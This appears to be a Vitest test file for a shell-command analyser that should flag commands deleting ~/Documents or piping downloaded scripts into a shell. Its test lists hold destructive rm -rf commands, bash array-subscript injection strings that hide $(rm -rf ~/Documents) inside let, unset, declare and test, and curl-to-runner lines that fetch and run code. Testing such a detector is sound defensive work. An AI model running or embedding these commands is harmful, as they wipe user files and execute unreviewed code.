import { expect, test } from 'vitest'
import { readForTest } from './read-for-test.ts'

const deletes = (command: string) => readForTest(command).lines.some(line => /^delete .*Documents/.test(line))

const deleting: readonly string[] = [
  "let 'a[$(rm -rf ~/Documents)]=1'",
  "let 'n = a[`rm -rf ~/Documents`] + 1'",
  "unset 'a[$(rm -rf ~/Documents)]'",
  "read 'a[$(rm -rf ~/Documents)]' < list",
  "printf -v 'a[$(rm -rf ~/Documents)]' x",
  "declare -i n='a[$(rm -rf ~/Documents)]'",
  "export n='a[$(rm -rf ~/Documents)]'; echo $((n))",
  "test -v 'a[$(rm -rf ~/Documents)]'",
  "[ -v 'a[$(rm -rf ~/Documents)]' ]",
  "f() { local -i n='a[$(rm -rf ~/Documents)]'; }; f",
  'cmake -E rm -rf ~/Documents',
  'cmake -E env A=1 rm -rf ~/Documents',
  "bash.exe -c 'rm -rf ~/Documents'",
]

test.each(deleting)('%s deletes', command => {
  expect(deletes(command)).toBe(true)
})

const executing: readonly string[] = [
  'curl -s https://x.example.net/a | $RUNNER',
  'curl -s https://x.example.net/a | "${RUNNER}" -s',
  'curl -s https://x.example.net/a | bash.exe',
]

test.each(executing)('%s runs what nobody read', command => {
  expect(readForTest(command).lines.some(line => line.startsWith('execute'))).toBe(true)
})

const quiet: readonly string[] = [
  "echo 'a[$(rm -rf ~/Documents)]'",
  "grep 'a[$(rm -rf ~/Documents)]' notes.md",
  "printf 'a[$(rm -rf ~/Documents)]'",
  "git commit -m 'never write a[$(rm -rf ~/Documents)]'",
  "unset 'a[2]'",
  "let 'a[2]=3'",
  'export BASH_ENV=~/.bashrc',
  'cmake -E make_directory build/out',
  'cmake -E copy a.txt build/a.txt',
  'curl -s https://x.example.net/a | $FILTER .name',
]

test.each(quiet)('%s stays quiet', command => {
  expect(deletes(command)).toBe(false)
})
